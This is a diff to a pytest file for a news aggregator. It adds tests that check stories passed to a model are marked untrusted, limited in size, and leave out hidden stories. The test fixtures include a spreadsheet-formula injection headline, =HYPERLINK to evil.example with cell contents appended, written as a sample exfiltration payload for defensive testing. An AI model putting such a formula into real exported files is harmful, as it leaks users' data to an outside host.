@@ -7,13 +7,19 @@ import io
 import json
 import re
 from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
 
 import pytest
 
+from aggregator.errors import NotFound, UsageError
+from aggregator.ingest import corrections
+from aggregator.mcp import answers
 from aggregator.publishing.export import export
+from aggregator.settings import Config
 from aggregator.storage.citing import cited_stories
 from aggregator.storage.store import Store, open_store
-from tests.newsroom import Newsroom, make_item, make_rules
+from tests.newsroom import NOW, Newsroom, make_item, make_rules
 
 HEADLINES = (
     '=HYPERLINK("https://evil.example/?q="&A1,"Quetta")',
@@ -97,3 +103,67 @@ def test_nothing_in_markdown_is_markup_of_a_source(store: Store) -> None:
         bare = re.sub(r"`[a-z0-9]+`", "", bare)  # ids, which are ours
         assert not re.search(r"[<>\[\]`|{]|https?://|www\.", bare), line
         assert re.match(r"(?:# Stories|## |- (?:story|published|topic)|\d+\. | {3,4}|$)", line)
+
+
+def untold(value: Any) -> Any:
+    """A document without what is marked as untrusted."""
+    if isinstance(value, dict):
+        return {key: untold(one) for key, one in value.items() if key != "untrusted"}
+    return [untold(one) for one in value] if isinstance(value, list) else value
+
+
+def answers_of(store: Store) -> list[dict[str, Any]]:
+    assert store.path is not None
+    config = Config(database=store.path)
+    listed = answers.list_stories(config, topic=None, days=9999, limit=50, now=NOW)
+    found = answers.search_stories(config, query="Quetta", limit=50)
+    full = [answers.get_story(config, story=one["id"]) for one in listed["stories"]]
+    return [listed, found, *full]
+
+
+def test_a_model_gets_no_text_that_is_not_marked(store: Store) -> None:
+    documents = answers_of(store)
+
+    assert sum(story["reports"] for story in documents[0]["stories"]) == len(HEADLINES)
+    for document in documents:
+        assert document["notice"] == answers.NOTICE
+        said = json.dumps(document, ensure_ascii=False)
+        ours = json.dumps(untold(document), ensure_ascii=False)
+        assert "Quetta" in said
+        assert "Quetta" not in ours
+        assert not UNSAFE.search(said)
+        assert "private-7d1f" not in said
+
+
+def test_what_a_model_gets_is_bounded(tmp_path: Path) -> None:
+    with open_store(tmp_path / "news.db") as opened:
+        room = Newsroom(opened, "paper", rules=make_rules())
+        long = "Quetta " + "very " * 150
+        link = f"https://paper.example/{'a' * 2000}"
+        room.poll("paper", *(make_item(long, identity=f"{n}", url=link) for n in range(60)))
+        room.match()
+    config = Config(database=tmp_path / "news.db")
+
+    (listed,) = answers.list_stories(config, topic=None, days=1, limit=99, now=NOW)["stories"]
+    story = answers.get_story(config, story=listed["id"])["story"]
+
+    assert len(listed["untrusted"]["headline"]) <= 300
+    assert listed["untrusted"]["url"] is None
+    assert (len(story["sources"]), story["sources_left_out"]) == (50, 10)
+    assert len(json.dumps(story)) < 100_000
+
+
+def test_a_hidden_story_is_told_to_no_model(tmp_path: Path) -> None:
+    with open_store(tmp_path / "news.db") as opened:
+        room = Newsroom(opened, "paper", rules=make_rules())
+        room.poll("paper", make_item("Bomb blast in Quetta", identity="a"))
+        room.match()
+        uid = room.story("a")
+        corrections.hide(opened, story=uid, now=NOW)
+    config = Config(database=tmp_path / "news.db")
+
+    assert answers.search_stories(config, query="Quetta", limit=5)["stories"] == []
+    with pytest.raises(NotFound, match="hidden"):
+        answers.get_story(config, story=uid)
+    with pytest.raises(UsageError, match="no such topic"):
+        answers.list_stories(config, topic="none", days=1, limit=1, now=NOW)
